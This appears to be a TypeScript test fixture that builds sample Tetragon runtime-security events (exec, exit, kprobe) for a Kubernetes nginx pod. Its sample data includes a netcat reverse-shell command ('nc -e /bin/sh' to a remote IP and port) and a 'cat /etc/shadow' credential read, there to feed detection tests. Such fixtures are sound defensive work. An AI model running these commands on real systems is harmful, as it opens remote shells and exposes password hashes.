/** Realistic Tetragon events (GetEventsResponse as plain objects), as Tetragon 1.x emits them. */
const pod = {
  namespace: 'shop',
  name: 'web-7d9c',
  uid: '0f1e2d3c-aaaa-bbbb-cccc-111122223333',
  container: {
    id: 'containerd://3ad7b26ded6d1c2b3a4f5e6d7c8b9a0f',
    name: 'web',
    image: { id: 'sha256:abc', name: 'docker.io/library/nginx:1.27' },
  },
  pod_labels: { app: 'web', tier: 'front' },
  workload: 'web',
  workload_kind: 'Deployment',
};
const time = { seconds: 1764424800, nanos: 123456789 };
const proc = (binary: string, args: string, pid: number, extra: object = {}): object => ({
  exec_id: `ZXhlYzo${pid}`,
  pid: { value: pid },
  uid: { value: 0 },
  cwd: '/',
  binary,
  arguments: args,
  start_time: time,
  auid: { value: 4294967295 },
  pod,
  docker: '3ad7b26ded6d1c2',
  user: { name: 'root' },
  cap: { permitted: [0, 21, 16], effective: [0, 21, 16] },
  ...extra,
});
const parent = proc('/bin/bash', '', 100);
const ancestors = [proc('/usr/bin/containerd-shim-runc-v2', '-namespace k8s.io', 50)];

export const tetragonExec = (binary: string, args: string): object => ({
  process_exec: { process: proc(binary, args, 200), parent, ancestors },
  node_name: 'node-1',
  time,
});
export const tetragonExit = (): object => ({
  process_exit: { process: proc('/usr/bin/nc', '-e /bin/sh 10.0.0.9 4444', 200), parent, signal: 'SIGKILL', status: 0 },
  node_name: 'node-1',
  time,
});
export const tetragonKprobe = (
  fn: string,
  args: object[],
  ret?: object,
  binary = '/usr/bin/cat',
  pargs = '/etc/shadow',
): object => ({
  process_kprobe: {
    process: proc(binary, pargs, 200),
    parent,
    function_name: fn,
    args,
    return: ret,
    action: 1,
    ancestors,
  },
  node_name: 'node-1',
  time,
});
